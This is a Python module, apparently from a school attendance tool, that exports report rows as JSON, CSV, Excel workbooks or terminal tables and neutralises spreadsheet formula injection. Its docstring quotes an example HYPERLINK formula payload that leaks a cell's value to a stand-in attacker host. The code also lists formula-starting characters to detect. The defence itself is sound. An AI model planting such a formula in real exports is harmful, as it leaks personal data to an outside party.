"""Writing tables as JSON, CSV, Excel or a terminal table: the CLI's formats and the pages' downloads, from
the same rows.

No text from a school's files is ever written where a spreadsheet would run it (OWASP, "CSV Injection"): a
surname such as `=HYPERLINK("http://evil.example/?leak="&A2,"Click")` is an Excel string cell, and in CSV
begins with a `'`, the prefix OWASP recommends, so a spreadsheet shows it as the text it is.
"""

from __future__ import annotations

import csv
import json
import re
import sys
from collections.abc import Mapping, Sequence
from typing import Any, BinaryIO, TextIO

from rich.console import Console
from rich.table import Table

from rollbook.rules.comparison import display


def write_json(data: Any, stream: TextIO | None = None) -> None:
    stream = stream or sys.stdout  # looked up per call, so a redirected stdout is honoured
    json.dump(data, stream, indent=2, default=str)
    stream.write("\n")


#: What a cell's text may start with for a spreadsheet to read it as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def inert(value: Any) -> Any:
    """A CSV cell's value as no spreadsheet evaluates it: text that starts as a formula does gets a leading
    `'`; numbers, dates and any other text are as they were, a number written as text (-1.5) too, and a
    lone sign (the register's "-" for no mark), which is no formula."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and (len(value) > 1 or value == "=")
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def write_csv(
    rows: Sequence[Mapping[str, Any]], stream: TextIO | None = None, columns: Sequence[str] | None = None
) -> None:
    """The rows as CSV under a heading row: `columns`, or else every row's keys (nothing for no rows). Lines
    end CRLF, as RFC 4180 has them, so that a cell holding a line break (\\r too) is quoted."""
    if not rows and columns is None:
        return
    columns = list(columns) if columns is not None else _columns(rows)
    writer = csv.DictWriter(stream or sys.stdout, fieldnames=columns, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({column: inert(value) for column, value in row.items()} for row in rows)


def write_xlsx(rows: Sequence[Mapping[str, Any]], stream: BinaryIO, title: str = "Report") -> None:
    """A workbook of the rows with a bold, frozen header, and an "About" sheet naming the report whole.
    Figures keep Excel's own formats: a column headed with "%" as a percentage (91.9%, its exact figures
    to four places), whole numbers with thousands separators."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook(write_only=False)
    sheet = book.active
    sheet.title = sheet_name(title)
    book.properties.title = title
    columns = _columns(rows)
    sheet.append(columns)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    sheet.freeze_panes = "A2"
    formats = [_number_format(column) for column in columns]
    for row in rows:
        sheet.append(
            [_excel_value(row.get(column), shown) for column, shown in zip(columns, formats, strict=True)]
        )
        for cell, shown in zip(sheet[sheet.max_row], formats, strict=True):
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl makes text starting "=" a formula: it is text
            elif isinstance(cell.value, float) and shown:
                cell.number_format = shown
            elif isinstance(cell.value, int) and not isinstance(cell.value, bool):
                cell.number_format = "#,##0"
    about = book.create_sheet("About")
    about.append(["Report", title])
    about.append(
        ["Figures", 'Rounded as the page shows them; the columns headed "(exact)" hold them unrounded.']
    )
    about["A1"].font = about["A2"].font = Font(bold=True)
    book.save(stream)


ROUNDING = 'Rounded to one place as the page shows them; the columns headed "(exact)" hold them unrounded.'
#: Excel's longest sheet name, and the characters it refuses in one.
SHEET_NAME_LENGTH = 31
_NOT_IN_SHEET_NAMES = re.compile(r"[\\/*?:\[\]]")


def sheet_name(title: str) -> str:
    """As much of the title as Excel allows in a sheet name, in whole parts ("Attendance summary, school
    100001, 2024/25" -> "Attendance summary"): never a number or word cut short."""
    parts = _NOT_IN_SHEET_NAMES.sub("-", title).split(", ")
    name = parts[0]
    for part in parts[1:]:
        if len(f"{name}, {part}") > SHEET_NAME_LENGTH:
            break
        name = f"{name}, {part}"
    if len(name) > SHEET_NAME_LENGTH:
        name = name[: SHEET_NAME_LENGTH + 1].rsplit(" ", 1)[0][:SHEET_NAME_LENGTH]
    return name


def _number_format(column: str) -> str | None:
    """A percentage column's format (to one place, or four for its exact figures); None for others."""
    if "%" not in column:
        return None
    return "0.0000%" if column.endswith("(exact)") else "0.0%"


def _excel_value(value: Any, shown: str | None) -> Any:
    """A percentage as Excel holds one (91.9 as 0.919, shown 91.9%); anything else as it is."""
    if shown and isinstance(value, float):  # a count in a "%" column ("Weeks under 100%") stays a count
        return value / 100
    return value


def write_table(rows: Sequence[Mapping[str, Any]], title: str = "", console: Console | None = None) -> None:
    table = Table(title=title or None)
    columns = list(rows[0]) if rows else []
    for column in columns:
        heading = column.replace("_", " ")
        table.add_column(heading[:1].upper() + heading[1:], overflow="fold")
    for row in rows:
        table.add_row(*(_cell(row[column]) for column in columns))
    (console or Console()).print(table)


def _columns(rows: Sequence[Mapping[str, Any]]) -> list[str]:
    """Every row's columns, first seen first: rows of one report need not all carry the same keys."""
    return list(dict.fromkeys(key for row in rows for key in row))


def _cell(value: Any) -> str:
    if value is None:
        return "–"
    if isinstance(value, float):
        return display(value, 1)
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int):
        return f"{value:,}"
    return str(value)
